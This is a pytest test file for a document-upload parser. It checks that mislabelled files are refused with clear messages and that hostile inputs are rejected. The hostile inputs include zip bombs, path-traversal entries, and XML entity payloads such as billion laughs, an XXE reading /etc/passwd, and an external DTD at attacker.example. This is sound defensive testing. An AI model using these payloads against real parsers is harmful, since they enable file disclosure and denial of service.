"""Files that lie about what they are, or cost more than they should, are refused in a sentence that says what to do."""

from __future__ import annotations

import io
import re
import struct
import time
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.documents.uploads import FILE_TYPES as UPLOADED
from ingestion.errors import EncryptedFile, IngestionError, ParseLimitExceeded, UnreadableFile
from ingestion.parsers.format import Source
from ingestion.parsers.office import container
from ingestion.parsers.registry import formats, parse
from ingestion.sandbox import ParseLimits, parse_file
from knowledge_bases.file_types import FILE_TYPES
from tests.ingestion.office import claiming, mail, part, presentation, replaced, saved, word, workbook
from tests.ingestion.printing import Line, pdf
from tests.ingestion.sentences import faults

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EXE = b"MZ\x90\0" + bytes(56) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(200)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
SMALL = ParseLimits(seconds=20, memory_bytes=1024 * 2**20)
BOOK = saved(workbook([["Account", "Fee"], ["Savings", 60]]))
SHOW = saved(presentation("Fees"))
OFFICE = {
    "x.docx": (word("Thirty days."), "word/document.xml"),
    "x.xlsx": (BOOK, "xl/worksheets/sheet1.xml"),
    "x.pptx": (SHOW, "ppt/slides/slide1.xml"),
}
GOOD = {name: raw for name, (raw, _) in OFFICE.items()} | {
    "x.pdf": pdf([Line(50, 100, "Thirty days of notice are given.")]),
    "x.html": b"<!doctype html><html><body><h1>Fees</h1><p>Thirty days of notice are given.</p></body></html>",
    "x.csv": b"Account,Fee\nSavings,60\nCurrent,120\n",
    "x.eml": bytes(mail("Thirty days of notice are given.", "<p>Thirty days of notice are given.</p>")),
    "x.md": b"# Fees\n\nThirty days of notice are given.\n",
}


def zipped(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def ole(stream: str, kind: int = 0) -> bytes:
    """An older container: its header, and a directory whose root is of the class ``kind``."""
    raw = bytearray(OLE + bytes(512 - 8 + 512))
    struct.pack_into("<H", raw, 30, 9)
    struct.pack_into("<I", raw, 512 + 80, kind)
    return bytes(raw) + stream.encode("utf-16-le")


def test_the_upload_form_offers_what_the_parsers_read() -> None:
    assert set(FILE_TYPES) == {extension for known in formats() for extension in known.extensions}
    assert UPLOADED is FILE_TYPES


@pytest.mark.parametrize(
    ("raw", "what"),
    [
        (EXE, "it is a program, not a document; upload the document itself."),
        (b"\x7fELF" + bytes(100), "it is a program, not a document; upload the document itself."),
        (ole("WordDocument"), "it is an old Word 97 file; save it as DOCX and upload that."),
        (ole("Workbook"), "it is an old Excel 97 file; save it as XLSX and upload that."),
        (ole("WordDocument", 0x00020820), "it is an old Excel 97 file; save it as XLSX and upload that."),
        (ole("PowerPoint Document"), "it is an old PowerPoint 97 file; save it as PPTX and upload that."),
        (ole("__substg1.0_1000001F"), "it is an Outlook message; save it as EML or PDF and upload that."),
        (ole("EncryptedPackage"), "it is protected by a password; remove the password and upload it again."),
        (rb"{\rtf1\ansi Fees}", "it is a rich text (RTF) file; save it as DOCX and upload that."),
        (PNG, "it is a PNG picture; put it into a PDF and upload that."),
        (b"\xff\xd8\xff\xe0" + bytes(50), "it is a JPEG picture; put it into a PDF and upload that."),
        (b"<?xml version='1.0'?><svg xmlns='x'/>", "it is an SVG drawing; put it into a PDF and upload that."),
        (zipped({"fees.pdf": GOOD["x.pdf"]}, zipfile.ZIP_STORED), "it is a ZIP archive; unpack it and upload"),
        (zipped({"x.zip": zipped({"a.docx": GOOD["x.docx"]})}), "it is a ZIP archive; unpack it and upload"),
        (
            b"PK\x03\x04" + b"not a container" * 9,
            "it is a damaged ZIP or Office file; open it in the program that made",
        ),
        (zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}, 0), "it is an OpenDocument text; save it"),
        (zipped({"xl/workbook.bin": b"x"}), r"it is a binary Excel workbook \(XLSB\); save it as XLSX"),
        (b"\x1f\x8b\x08" + bytes(50), "it is a GZIP archive; unpack it and upload the documents in it."),
        (b"<?xml version='1.0'?><a><b/></a>", "it is an XML data file; save what customers may read as PDF"),
    ],
)
@pytest.mark.parametrize("name", ["fees.pdf", "fees.docx", "fees.txt", "fees"])
def test_a_file_of_another_kind_is_called_what_it_is_whatever_its_name(name: str, raw: bytes, what: str) -> None:
    pattern = what if "\\" in what else what.replace("(", r"\(").replace(")", r"\)")
    with pytest.raises(IngestionError, match=f"^{name}: {pattern}") as refusal:
        parse(Source(name, raw))
    assert faults(str(refusal.value), name) == []


@pytest.mark.parametrize("name", ["fees.pdf", "fees.docx", "fees.xlsx", "fees.pptx", "fees.eml", "fees"])
@pytest.mark.parametrize("known", ["x.docx", "x.xlsx", "x.pptx", "x.pdf", "x.eml"])
def test_a_known_format_is_read_whatever_its_name(name: str, known: str) -> None:
    assert parse(Source(name, GOOD[known])).parser.startswith(known[2:])


def test_a_protected_word_file_is_refused_as_such() -> None:
    with pytest.raises(EncryptedFile, match="remove the password"):
        parse(Source("x.docx", ole("EncryptedPackage")))


@pytest.mark.parametrize("name", OFFICE)
def test_a_container_whose_parts_are_encrypted_is_refused_as_such(name: str) -> None:
    raw = bytearray(OFFICE[name][0])
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        raw[raw.index(mark) + offset] |= 1
    with pytest.raises(EncryptedFile, match="remove the password"):
        parse(Source(name, bytes(raw)))


@pytest.mark.parametrize("name", OFFICE)
def test_a_container_that_claims_two_gigabytes_is_refused_at_once(name: str) -> None:
    started = time.monotonic()
    with pytest.raises(ParseLimitExceeded, match="it unpacks to far more than its size; open it in"):
        parse(Source(name, claiming(OFFICE[name][0], 2**31)))
    assert time.monotonic() - started < 5, "two gigabytes were not unpacked"


@pytest.mark.parametrize("name", OFFICE)
def test_a_container_that_expands_is_refused_before_it_does(name: str) -> None:
    raw, main = OFFICE[name]
    with pytest.raises(ParseLimitExceeded, match="it unpacks to far more than its size"):
        parse(Source(name, replaced(raw, {main: bytes(50_000_000)})))


@pytest.mark.parametrize("name", OFFICE)
def test_a_container_that_claims_less_than_it_holds_gives_no_more_than_it_claims(name: str) -> None:
    raw, _ = OFFICE[name]
    first = next(iter(zipfile.ZipFile(io.BytesIO(raw)).namelist()))
    bomb = replaced(raw, {first: part(raw, first) + b" " * 40_000_000})
    with pytest.raises(IngestionError):
        parse(Source(name, claiming(bomb, 1000)))


@pytest.mark.parametrize("name", OFFICE)
def test_a_container_of_too_many_parts_is_refused(name: str) -> None:
    raw, main = OFFICE[name]
    many = replaced(raw, {f"{main}{number}.xml": b"" for number in range(container.ENTRY_LIMIT)})
    with pytest.raises(ParseLimitExceeded, match="it holds more than 10,000 parts; open it in"):
        parse(Source(name, many))


DECLARATIONS = {
    "billion laughs": b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
    "quadratic": b'<!DOCTYPE a [<!ENTITY a "' + b"x" * 20_000 + b'">]>',
    "a file of ours": b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "another host": b'<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',
    "parameters": b'<!DOCTYPE a [<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]>',
}


@pytest.mark.parametrize("declaration", DECLARATIONS.values(), ids=DECLARATIONS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", OFFICE)
def test_xml_that_declares_anything_is_refused(name: str, encoding: str, declaration: bytes) -> None:
    raw, main = OFFICE[name]
    body = re.sub(rb"^<\?xml.*?\?>", b"", part(raw, main))
    bomb = f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + declaration + body
    hostile = bomb.decode("utf-8").encode(encoding)
    with pytest.raises(UnreadableFile, match=r"it declares XML entities, which \w+ never does; open it in"):
        parse(Source(name, replaced(raw, {main: hostile})))


@pytest.mark.parametrize("encoding", ["utf-7", "cp037", "utf-32"])
def test_xml_in_an_encoding_that_would_smuggle_declarations_is_refused(encoding: str) -> None:
    raw, main = OFFICE["x.docx"]
    text = f'<?xml version="1.0" encoding="{encoding}"?>' + DECLARATIONS["another host"].decode() + "<a/>"
    with pytest.raises(UnreadableFile):
        parse(Source("x.docx", replaced(raw, {main: text.encode(encoding)})))


@pytest.mark.parametrize("name", OFFICE)
def test_xml_nested_without_end_is_refused(name: str) -> None:
    raw, main = OFFICE[name]
    nested = b"<a>" * 300_000 + b"</a>" * 300_000
    with pytest.raises(IngestionError) as refusal:
        parse_file(replaced(raw, {main: nested}), name, SMALL)
    assert faults(str(refusal.value), name) == []


@pytest.mark.parametrize("declaration", DECLARATIONS.values(), ids=DECLARATIONS)
def test_a_page_that_declares_entities_expands_none(declaration: bytes) -> None:
    text = parse(Source("x.html", declaration + b"<html><body><p>Fee &c; &a;</p></body></html>")).text
    assert len(text) < 100
    assert "root:" not in text


@pytest.mark.parametrize("path", ["../../etc/x.xml", "/etc/x.xml", "word/../../x.xml", "C:\\x.xml"])
def test_paths_in_a_container_lead_nowhere(path: str) -> None:
    raw = replaced(OFFICE["x.docx"][0], {path: b"<a/>"})
    assert parse(Source("x.docx", raw)).text == "Thirty days.\n"


def test_a_zip_inside_an_office_file_is_never_opened() -> None:
    bomb = zipped({"a": bytes(1_000_000)})
    raw = replaced(OFFICE["x.docx"][0], {"word/embeddings/bomb.xlsx": bomb})
    found = container.unpacked(Source("x.docx", raw), container.Kind.WORD)
    assert zipfile.ZipFile(io.BytesIO(found.raw)).read("word/embeddings/bomb.xlsx") == b""


def test_macros_and_templates_are_read_as_the_documents_they_are() -> None:
    raw = OFFICE["x.docx"][0]
    types = part(raw, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert parse(Source("x.docm", replaced(raw, {"[Content_Types].xml": types}))).text == "Thirty days.\n"


def test_an_empty_file_is_refused_whatever_its_name() -> None:
    for name in GOOD:
        with pytest.raises(UnreadableFile, match=f"^{name}: the file is empty; upload the full document\\.$"):
            parse_file(b"", name)


@pytest.mark.parametrize("name", GOOD)
def test_a_file_cut_off_anywhere_is_read_or_refused_in_a_sentence(name: str) -> None:
    raw = GOOD[name]
    for tenth in range(10):
        assert outcome(raw[: len(raw) * tenth // 10], name) == []


@pytest.mark.parametrize("name", GOOD)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_bytes_at_random_are_read_or_refused_in_a_sentence(name: str, data: st.DataObject) -> None:
    raw = bytearray(GOOD[name])
    noise = data.draw(st.binary(max_size=200))
    at = data.draw(st.integers(0, len(raw)))
    assert outcome(bytes(raw[:at]) + noise + bytes(raw[at + len(noise) :]), name) == []
    assert outcome(noise, name) == []


@pytest.mark.slow
def test_a_pdf_of_a_million_objects_is_read_or_refused_within_its_limits() -> None:
    started = time.monotonic()
    assert outcome(_million_objects(), "million.pdf", ParseLimits()) == []
    assert time.monotonic() - started < ParseLimits().seconds + 5


def outcome(raw: bytes, name: str, limits: ParseLimits = SMALL) -> list[str]:
    """What is wrong with the way a file was refused; nothing where it was read."""
    try:
        parse_file(raw, name, limits)
    except IngestionError as refusal:
        return faults(str(refusal), name)
    return []


def _million_objects() -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n")
    out.write(b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n")
    out.write(b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n")
    out.writelines(b"%d 0 obj[]endobj\n" % number for number in range(4, 1_000_000))
    out.write(b"trailer<</Root 1 0 R/Size 1000000>>\n%%EOF\n")
    return out.getvalue()
